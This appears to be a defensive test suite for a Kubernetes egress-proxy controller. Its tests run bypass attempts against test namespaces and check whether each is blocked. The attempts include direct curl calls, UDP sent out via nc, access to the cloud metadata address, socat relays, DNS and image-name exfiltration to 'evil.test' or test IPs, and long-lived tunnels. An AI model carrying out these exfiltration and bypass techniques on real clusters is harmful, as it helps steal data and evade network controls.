import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { bash, type Outcome } from '../../scripts/scenario/shell.ts';
import { pod, policy, refusedObjects, service, slice } from './support/attacks/attempts.ts';
import { InternetLog } from './support/attacks/internet-log.ts';
import { kubectl, must, ruleSet, startStage, TENANT, tenantMay } from './support/attacks/stage.ts';
import { eventually, leaveNamespaces } from './support/client-pods.ts';

/** Enforced; enforced with in-cluster-traffic: deny; a tenant's own, without our label; in observe mode. */
const [ENFORCED, STRICT, FRESH, WATCHED] = ['bypass', 'bypass-strict', 'bypass-fresh', 'bypass-watched'];
/** Opts in while one of its pods talks to the outside. */
const LATE = 'bypass-late';
const OUTSIDE = '203.0.113.10';
const ALLOWED = 'bypass.example.com';
const internet = new InternetLog();

function exec(where: string, command: string, timeoutSeconds = 60): Promise<Outcome> {
  const [namespace, name] = where.split('/');
  const quoted = `'${command.replaceAll("'", `'\\''`)}'`;
  return bash(`kubectl exec -n ${namespace} ${name} -- sh -c ${quoted}`, { timeoutSeconds });
}

const DIRECT = `curl --noproxy '*' -s -o /dev/null -m 4 -w '%{http_code}'`;

/** The status of a call that leaves the proxy out; 000 where nothing answered. */
async function direct(from: string, url: string): Promise<string> {
  return (await exec(from, `${DIRECT} ${url}`)).stdout;
}

const podIP = (namespace: string, name: string) =>
  must(`get pod ${name} -n ${namespace} -o jsonpath='{.status.podIP}'`);

/** Talks to an echo server by `connection` before and after a change, which the file `go` announces. */
function talk(where: string, connection: string): Promise<Outcome> {
  const until = (what: string) => `i=0; until ${what} || [ $i -ge 500 ]; do sleep 0.1; i=$((i + 1)); done`;
  const said = `echo before; ${until('[ -e /tmp/go ]')}; echo after; ${until('grep -q after /tmp/heard')}`;
  return exec(where, `: > /tmp/heard; (${said}) | ${connection} | tee /tmp/heard`, 150);
}
const go = (where: string) => exec(where, 'touch /tmp/go');

/** In the internet simulator's log since `mark`, by a part of its path or server. */
const arrived = (part: string) =>
  internet.since().filter(({ path, server }) => path.includes(part) || server.includes(part));

beforeAll(async () => {
  await Promise.all([
    startStage(ENFORCED, 'enforce'),
    startStage(FRESH),
    startStage(WATCHED, 'observe'),
    startStage(STRICT, 'enforce', { 'egress.zalando.org/in-cluster-traffic': 'deny' }),
  ]);
  const relay = `socat TCP-LISTEN:8080,fork,reuseaddr TCP:${OUTSIDE}:80 & socat TCP-LISTEN:53,fork,reuseaddr TCP:${OUTSIDE}:80`;
  const pods = [
    pod(ENFORCED, 'api'),
    pod(ENFORCED, 'uninjected', {}, {}, { 'egress.zalando.org/inject': 'false' }),
    pod(ENFORCED, 'host-port', {}, { ports: [{ containerPort: 8080, hostPort: 18080 }] }),
    pod(STRICT, 'api'),
    pod(WATCHED, 'api'),
    pod(FRESH, 'relay', {}, { command: ['sh', '-c', relay] }, { 'k8s-app': 'kube-dns' }),
    service(FRESH, { ports: [{ name: 'http', port: 80 }] }),
    slice(FRESH, OUTSIDE),
  ];
  await must('apply -f -', { apiVersion: 'v1', kind: 'List', items: pods });
  for (const namespace of [ENFORCED, STRICT, FRESH, WATCHED]) {
    await must(`wait -n ${namespace} --for=condition=Ready pod --all --timeout=60s`);
  }
  // Kubernetes takes this out of admin (CVE-2021-25740); some clusters give it back.
  const slices = 'slices --user=attack-tenant --role=slices';
  await must(`create role slices -n ${ENFORCED} --verb=create --resource=endpointslices.discovery.k8s.io`);
  await must(`create rolebinding -n ${ENFORCED} ${slices}`);
  await tenantMay(`create endpointslices.discovery.k8s.io -n ${ENFORCED}`);
  await ruleSet(ENFORCED, 'rules', [`${ALLOWED}:80`, `${ALLOWED}:5432`]);
});

afterAll(async () => {
  await kubectl('delete clusterrole,clusterrolebinding bypass-namespaces --ignore-not-found');
  await leaveNamespaces(ENFORCED, STRICT, FRESH, WATCHED, LATE);
});

describe('refused when it is written', () => {
  test.each(refusedObjects(ENFORCED).map((one) => [one.name, one] as const))(
    '%s',
    async (_, { object, says }) => {
      const tried = await kubectl(`create -f - ${TENANT}`, object);
      expect(tried.code, tried.stdout).not.toBe(0);
      expect(tried.stderr.replaceAll(/\s+/g, ' ')).toContain(says);
    },
  );

  test('a Deployment on the host network gets no pods', async () => {
    const { metadata, spec } = pod(ENFORCED, 'workload', { hostNetwork: true });
    const labels = metadata.labels;
    const template = { metadata: { labels }, spec };
    const deployment = { selector: { matchLabels: labels }, template };
    await must(`create -f - ${TENANT}`, {
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata,
      spec: deployment,
    });
    const failed = `wait -n ${ENFORCED} deployment/workload --for=condition=ReplicaFailure --timeout=30s`;
    await must(failed);
    expect(await must(`get pods -n ${ENFORCED} -l app=workload -o name`)).toBe('');
  });

  test('our NetworkPolicy cannot be deleted', async () => {
    const tried = await kubectl(`delete networkpolicy enforce-egress-proxy -n ${ENFORCED} ${TENANT}`);
    expect(tried.stderr).toContain('is managed by the kube-egress controller');
  });

  test('the address of another pod, or of a load balancer, by every right in one namespace', async () => {
    const rules = [{ apiGroups: [''], resources: ['*'], verbs: ['*'] }];
    const metadata = { name: 'everything', namespace: STRICT };
    await must('apply -f -', { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'Role', metadata, rules });
    await must(`create rolebinding -n ${STRICT} everything --user=attack-tenant --role=everything`);
    await tenantMay(`patch pods --subresource=status -n ${STRICT}`);
    const ip = await podIP(ENFORCED, 'api');
    await must(`create -f - ${TENANT}`, service(STRICT, { type: 'LoadBalancer', ports: [{ port: 80 }] }));
    for (const [object, status] of [
      ['pod api', { podIP: ip, podIPs: [{ ip }] }],
      ['service leak', { loadBalancer: { ingress: [{ ip: OUTSIDE }] } }],
    ] as const) {
      const patch = `--subresource=status --type=merge -p '${JSON.stringify({ status })}'`;
      const tried = await kubectl(`patch ${object} -n ${STRICT} ${patch} ${TENANT}`);
      expect(tried.code, tried.stdout).not.toBe(0);
      expect(tried.stderr.replaceAll(/\s+/g, ' '), object).toContain('may change them');
    }
  });

  test('the label cannot be taken off, changed, or lost with the namespace', async () => {
    await must('create clusterrole bypass-namespaces --verb=get,patch,update,delete --resource=namespaces');
    await must(
      'create clusterrolebinding bypass-namespaces --clusterrole=bypass-namespaces --user=attack-tenant',
    );
    await tenantMay('delete namespaces');
    const mode = 'egress.zalando.org/mode';
    for (const attempt of [
      `label namespace ${ENFORCED} ${mode}-`,
      `label namespace ${ENFORCED} ${mode}=observe --overwrite`,
      `annotate namespace ${ENFORCED} egress.zalando.org/allow-host-network=true`,
      `delete namespace ${ENFORCED}`,
    ]) {
      const tried = await kubectl(`${attempt} ${TENANT}`);
      expect(tried.stderr, attempt).toContain('requires the verb bypass');
    }
  });
});

describe('dropped', () => {
  beforeAll(() => internet.mark());

  test.concurrent.each([
    ['api', 'a pod that leaves the proxy out'],
    ['uninjected', 'a pod without the variables'],
    ['host-port', 'a pod with a host port'],
  ])('%s: %s', async (name) => {
    expect(await direct(`${ENFORCED}/${name}`, `http://${OUTSIDE}/bypass-direct-${name}`)).toBe('000');
    expect(arrived(`bypass-direct-${name}`)).toEqual([]);
  });

  test.concurrent('UDP to the internet', async () => {
    await exec(`${ENFORCED}/api`, `echo leak | nc -u -w 2 ${OUTSIDE} 5353`);
    expect(arrived(`${OUTSIDE}:5353`)).toEqual([]);
  });

  test.concurrent('the metadata address', async () => {
    expect(await direct(`${ENFORCED}/api`, 'http://169.254.169.254/latest/meta-data')).toBe('000');
    expect(arrived('169.254.169.254')).toEqual([]);
  });

  test.concurrent('a Service of another namespace whose EndpointSlice leads out', async () => {
    const url = `http://leak.${FRESH}.svc.cluster.local/bypass-slice`;
    expect(await direct(`${ENFORCED}/api`, url)).toBe('000');
    expect(arrived('bypass-slice')).toEqual([]);
    expect(await direct(`${FRESH}/relay`, url), 'it does lead out').toBe('200');
  });

  test.concurrent("the API server's services/proxy, to an EndpointSlice that leads out", async () => {
    const path = `/api/v1/namespaces/${FRESH}/services/leak:http/proxy/bypass-services-proxy`;
    expect((await kubectl(`get --raw ${path} ${TENANT}`)).code).not.toBe(0);
    expect(arrived('bypass-services-proxy')).toEqual([]);
  });

  test('a policy for ingress opens nothing', async () => {
    await must(`apply -f - ${TENANT}`, policy(ENFORCED, { policyTypes: ['Ingress'], ingress: [{}] }));
    expect(await direct(`${ENFORCED}/api`, `http://${OUTSIDE}/`)).toBe('000');
  });

  test.concurrent.each([
    ['strict mode: a relay in the cluster', 'http://relay:8080/'],
    ['strict mode: a relay as kube-dns', 'http://relay:53/'],
    ['strict mode: the API server', '-k https://kubernetes.default.svc/livez'],
  ])('%s', async (_, url) => {
    const relay = await podIP(FRESH, 'relay');
    expect(await direct(`${STRICT}/api`, url.replace('relay', relay))).toBe('000');
  });
});

describe('refused by the proxy', () => {
  test.each(['private', 'loopback', 'loopback6', 'metadata', 'node', 'nat64'])(
    'observe mode lifts no guard: %s.example.com',
    async (name) => {
      const call = `curl -s -m 15 -o /dev/null -w '%{http_code}' http://${name}.example.com/`;
      expect((await exec(`${WATCHED}/api`, call)).stdout).toBe('403');
    },
  );

  test("observe mode is no relay into the proxy's own pod", async () => {
    const pods = await must(`get pods -n egress-proxy -l app=squid -o jsonpath='{.items[*].status.podIP}'`);
    for (const address of ['127.0.0.1', ...pods.trim().split(' ')]) {
      for (const port of [3128, 8081, 8444]) {
        const call = `curl -s -m 15 -o /dev/null -p -x $HTTP_PROXY -w '%{http_connect}' --noproxy '' http://${address}:${port}/`;
        expect((await exec(`${WATCHED}/api`, call)).stdout, `${address}:${port}`).toBe('403');
      }
    }
  });

  test('a name with a public and a private address is dialled at the public one', async () => {
    internet.mark();
    const call = `curl -s -m 15 -o /dev/null -w '%{http_code}' http://mixed.example.com/bypass-mixed`;
    expect((await exec(`${WATCHED}/api`, call)).stdout).toBe('200');
    expect(arrived('bypass-mixed').map(({ server }) => server)).toEqual([`${OUTSIDE}:80`]);
  });
});

/** These fail on the day that they are closed: then docs/security.md has a line to change. */
describe('open', () => {
  test('a relay in a namespace that is not enforced', async () => {
    internet.mark();
    const relay = await podIP(FRESH, 'relay');
    expect(await direct(`${ENFORCED}/api`, `http://${relay}:8080/bypass-relay`)).toBe('200');
    expect(arrived('bypass-relay')).toHaveLength(1);
  });

  test('names as data: the DNS of the cluster asks outside for any name', async () => {
    const asked = await exec(`${ENFORCED}/api`, 'getent hosts c2VjcmV0.evil.test');
    expect(asked.stdout).toContain('203.0.113.66');
  });

  test('an image name as data: the node asks the registry that the pod names', async () => {
    internet.mark();
    const leak = pod(ENFORCED, 'image', {}, { image: '203.0.113.66:5432/736563726574:1' });
    await must(`create -f - ${TENANT}`, leak);
    const asked = async () => arrived('203.0.113.66:5432').length > 0;
    expect(await eventually(asked, true, 60)).toBe(true);
    await must(`delete pod image -n ${ENFORCED} --wait=false`);
  });

  test('a tunnel outlives its rule', async () => {
    internet.mark();
    await ruleSet(ENFORCED, 'tunnel', ['tunnel.example.com:5432']);
    const connection = 'socat - PROXY:squid.egress-proxy:tunnel.example.com:5432,proxyport=3128';
    const talking = talk(`${ENFORCED}/api`, connection);
    expect(await eventually(async () => arrived(`${OUTSIDE}:5432`).length, 1)).toBe(1);
    await must(`delete egressruleset tunnel -n ${ENFORCED}`);
    const call = `curl -s -o /dev/null -m 4 -w '%{http_connect}' https://tunnel.example.com:5432/`;
    expect(await eventually(async () => (await exec(`${ENFORCED}/api`, call)).stdout, '403')).toBe('403');
    await go(`${ENFORCED}/api`);
    expect((await talking).stdout).toBe('before\nafter\n');
  });

  test('a connection from before the opt-in', async () => {
    internet.mark();
    await startStage(LATE);
    await must('apply -f -', pod(LATE, 'api'));
    await must(`wait -n ${LATE} --for=condition=Ready pod/api --timeout=60s`);
    const talking = talk(`${LATE}/api`, `socat - TCP:${OUTSIDE}:5432`);
    expect(await eventually(async () => arrived(`${OUTSIDE}:5432`).length, 1)).toBe(1);
    await must(`label namespace ${LATE} egress.zalando.org/mode=enforce`);
    await must(`wait -n ${LATE} --for=create networkpolicy/enforce-egress-proxy --timeout=60s`);
    const another = () => direct(`${LATE}/api`, `http://${OUTSIDE}/`);
    expect(await eventually(another, '000')).toBe('000');
    await go(`${LATE}/api`);
    expect((await talking).stdout).toBe('before\nafter\n');
  });

  test('what a person with exec carries out', async () => {
    const carried = await kubectl(`exec -n ${ENFORCED} api ${TENANT} -- echo secret`);
    expect(carried.stdout).toBe('secret\n');
  });
});

describe('narrowed', () => {
  test("the API server's pods/proxy reaches the tenant's own pods alone", async () => {
    const status = { status: { podIP: OUTSIDE, podIPs: [{ ip: OUTSIDE }] } };
    const patch = `patch pod api -n ${ENFORCED} --subresource=status --type=merge -p '${JSON.stringify(status)}'`;
    expect((await kubectl(`${patch} ${TENANT}`)).stderr).toContain('forbidden');
    const slicePath = `create -f - ${TENANT}`;
    expect((await kubectl(slicePath, slice(ENFORCED, OUTSIDE))).stderr).toContain('must be those of pods');
  });
});
